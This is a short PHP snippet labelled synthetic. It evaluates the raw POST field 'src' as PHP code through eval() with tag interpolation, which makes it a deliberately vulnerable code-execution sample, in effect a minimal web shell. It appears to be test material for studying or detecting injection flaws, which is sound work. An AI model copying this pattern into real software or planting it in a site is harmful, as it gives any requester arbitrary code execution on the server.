<?php
// synthetic: request text wrapped in PHP tags and evaluated through interpolation
$src = trim($_POST['src']);
eval("?" . ">$src<?php ");
